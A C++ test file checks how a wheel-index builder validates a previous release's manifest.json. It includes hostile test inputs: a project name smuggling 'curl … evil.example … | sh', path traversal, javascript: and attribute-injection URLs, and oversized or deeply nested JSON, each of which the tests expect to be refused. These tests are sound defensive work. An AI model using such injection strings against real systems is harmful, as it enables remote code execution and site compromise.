// A release's index keeps every earlier version: the previous site's
// manifest.json brings its wheels (served where they were released) into the
// new index beside the new wheels.
#include <catch2/catch.hpp>

#include <fstream>
#include <iostream>

#include <nlohmann/json.hpp>

#include "sagebuild/common/error.h"
#include "sagebuild/common/fs.h"
#include "sagebuild/common/shared_dir_test.h"
#include "sagebuild/index/manifest.h"
#include "sagebuild/index/previous.h"
#include "sagebuild/index/site.h"
#include "sagebuild/index/test_wheels.h"
#include "sagebuild/index/wheel_scan.h"

using namespace sb::index;
namespace fs = std::filesystem;

namespace {

const char* kV1 = "https://github.com/o/r/releases/download/v2.2.0/";
const char* kV2 = "https://github.com/o/r/releases/download/v2.2.1/";

// A site for the release v2.2.0 holding one wheel; returns its manifest.json.
fs::path first_release(const fs::path& root) {
  testing::write_wheel(root / "v1", "sageattention-2.2.0-280.129-cp39-abi3-linux_x86_64.whl",
                       testing::build_info_json("2.8.0", "12.9"));
  write_site(group_by_variant(scan_directory(root / "v1")), root / "site1", {"https://o.github.io/r", kV1});
  return root / "site1" / "manifest.json";
}

}  // namespace

TEST_CASE("previous manifest: its wheels keep their release URLs in the next index") {
  fs::path root = testing::fresh_dir("previous");
  auto previous = read_previous_manifest(first_release(root));
  REQUIRE(previous.size() == 1);
  CHECK(previous[0].url == std::string(kV1) + "sageattention-2.2.0-280.129-cp39-abi3-linux_x86_64.whl");
  CHECK(previous[0].variant == "torch2.8-cu129");
  CHECK(previous[0].source.empty());

  // The next release: a new version for another torch.
  testing::write_wheel(root / "v2", "sageattention-2.2.1-21100.130-cp310-abi3-linux_x86_64.whl",
                       testing::build_info_json("2.11.0", "13.0"));
  auto merged = merge_previous(scan_directory(root / "v2"), previous);
  REQUIRE(merged.size() == 2);
  write_site(group_by_variant(merged), root / "site2", {"https://o.github.io/r", kV2});
  auto manifest = nlohmann::json::parse(sb::read_file(root / "site2" / "manifest.json"));
  std::vector<std::string> urls;
  for (const auto& w : manifest["wheels"]) urls.push_back(w["url"]);
  CHECK(urls ==
        std::vector<std::string>{std::string(kV1) + "sageattention-2.2.0-280.129-cp39-abi3-linux_x86_64.whl",
                                 std::string(kV2) + "sageattention-2.2.1-21100.130-cp310-abi3-linux_x86_64.whl"});
  std::string old_page = sb::read_file(root / "site2" / "torch2.8-cu129/simple/sageattention/index.html");
  CHECK(old_page.find(std::string(kV1) + "sageattention-2.2.0-280.129") != std::string::npos);
  // The manifest this site wrote serves as the next one's --previous.
  CHECK(read_previous_manifest(root / "site2" / "manifest.json").size() == 2);
}

TEST_CASE("previous manifest: a wheel rebuilt under its published name is refused, the same file merged once") {
  fs::path root = testing::fresh_dir("previous_conflict");
  auto previous = read_previous_manifest(first_release(root));
  auto same = scan_directory(root / "v1");  // the very file: merged once
  CHECK(merge_previous(same, previous).size() == 1);
  auto changed = previous;
  changed[0].sha256 = std::string(64, 'b');
  CHECK_THROWS_WITH(merge_previous(same, changed),
                    Catch::Contains("a published file must not change") &&
                        Catch::Contains("sageattention-2.2.0-280.129-cp39-abi3-linux_x86_64.whl"));
}

TEST_CASE("previous manifest: what is not one is refused by name") {
  CHECK_THROWS_WITH(parse_previous_manifest("[1]", "m.json"), Catch::StartsWith("m.json: no \"wheels\" array"));
  CHECK_THROWS_WITH(parse_previous_manifest("{", "m.json"), Catch::StartsWith("m.json: not valid JSON"));
  std::string entry = R"({"wheels": [{"filename": "a-1-cp39-abi3-linux_x86_64.whl", "url": "wheels/a.whl",
      "project": "a", "version": "1", "torch": "2.8.0", "cuda": "12.9", "sha256": ")" +
                      std::string(64, 'a') + R"(", "size": 3, "requires_python": ""}]})";
  CHECK_THROWS_WITH(parse_previous_manifest(entry, "m.json"),
                    Catch::Contains("wheels[0].url 'wheels/a.whl': a relative URL") &&
                        Catch::Contains("that site copied its wheels"));
  CHECK_THROWS_AS(read_previous_manifest("/nonexistent/manifest.json"), sb::UsageError);
}

namespace {

// One previous wheel with `key` set to `value` (a JSON text), the rest valid.
std::string manifest_with(const std::string& key, const std::string& value) {
  nlohmann::json w = {{"filename", "sageattention-2.1.0-21100.130-cp310-abi3-manylinux_2_34_x86_64.whl"},
                      {"url", "https://example.org/dl/x.whl"},
                      {"project", "sageattention"},
                      {"version", "2.1.0"},
                      {"torch", "2.11.0"},
                      {"cuda", "13.0"},
                      {"sha256", std::string(64, 'a')},
                      {"size", 1},
                      {"requires_python", ">=3.10"},
                      {"build_info", nullptr}};
  w[key] = nlohmann::json::parse(value);
  return nlohmann::json{{"variants", nlohmann::json::array()}, {"wheels", {w}}}.dump();
}

}  // namespace

TEST_CASE("previous manifest: a valid entry passes the checks on every field") {
  auto wheels = parse_previous_manifest(manifest_with("size", "1"), "m.json");
  REQUIRE(wheels.size() == 1);
  CHECK(wheels[0].variant == "torch2.11-cu130");
}

TEST_CASE("previous manifest: nothing in it is trusted") {
  auto refused = [](const std::string& key, const std::string& value, const std::string& says) {
    INFO(key << " = " << value);
    CHECK_THROWS_WITH(parse_previous_manifest(manifest_with(key, value), "m.json"),
                      Catch::StartsWith("m.json: wheels[0]." + key) && Catch::Contains(says));
  };
  // The project becomes a directory of the site and a word of its shell commands.
  refused("project", R"("../../../../tmp/sb-outside")", "is not the normalized project name");
  refused("project", R"("sageattention; curl -s https://evil.example/x | sh; echo")",
          "is not the normalized project name");
  refused("project", R"("SageAttention")", "e.g. 'sageattention'");
  refused("project", R"("other")", "is not the normalized project name of its file name");
  refused("filename", R"("../sageattention-2.1.0-21100.130-cp310-abi3-manylinux_2_34_x86_64.whl")",
          "is not a wheel file name");
  refused("filename", R"("x.whl")", "is not a wheel file name");
  refused("version", R"("2.1.1")", "is not its file name's version '2.1.0'");
  refused("url", R"j("javascript:alert(1)")j", "which a URL on the site must not");
  refused("url", R"("javascript:x")", "not an http(s) or file URL");
  refused("url", R"j("https://example.org/\"onmouseover=\"x")j", "'\"'");
  refused("requires_python", R"("<script>")", "is not a specifier set");
  CHECK_THROWS_WITH(parse_previous_manifest(manifest_with("torch", R"("x")"), "m.json"),
                    Catch::StartsWith("m.json: wheels[0]: "));
}

TEST_CASE("previous manifest: nesting is bounded before parsing, not a stack overflow") {
  std::string deep(100000, '[');
  deep += std::string(100000, ']');
  CHECK_THROWS_WITH(parse_previous_manifest(
                        manifest_with("size", "1").replace(manifest_with("size", "1").find("null"), 4, deep), "m.json"),
                    Catch::Contains("nested deeper than 32 levels"));
}

TEST_CASE("previous manifest: a file over the size cap is refused before it is read whole") {
  fs::path root = testing::fresh_dir("previous_cap");
  fs::path big = root / "manifest.json";
  {
    std::ofstream out(big, std::ios::binary);
    std::string block(1 << 20, ' ');
    for (int i = 0; i < 9; ++i) out << block;
  }
  CHECK_THROWS_WITH(read_previous_manifest(big), Catch::StartsWith("--previous " + big.string() + ": larger than"));
}

TEST_CASE("previous manifest: the shared fuzz findings are refused by name (skipped without them)") {
  fs::path dir = fs::path(SAGEBUILD_FUZZ_FINDINGS_DIR) / "index-previous-traversal";
  SB_SKIP_WITHOUT_SHARED_DIR(dir);
  int n = 0;
  for (const auto& e : fs::directory_iterator(dir)) {
    if (e.path().extension() != ".json") continue;
    INFO(e.path().string());
    CHECK_THROWS_WITH(read_previous_manifest(e.path()), Catch::Contains("wheels[0].project"));
    ++n;
  }
  CHECK(n == 3);
}

TEST_CASE("previous manifest: one file name listed twice is refused, whatever its URLs") {
  fs::path root = testing::fresh_dir("previous-twice");
  auto j = nlohmann::json::parse(sb::read_file(first_release(root)));
  auto again = j["wheels"][0];
  again["url"] = std::string("https://evil.example/") + again["filename"].get<std::string>();
  j["wheels"].push_back(again);
  CHECK_THROWS_WITH(parse_previous_manifest(j.dump(), "m.json"),
                    Catch::Contains("wheels[1] lists sageattention-2.2.0-280.129-cp39-abi3-linux_x86_64.whl again") &&
                        Catch::Contains("published once"));
}
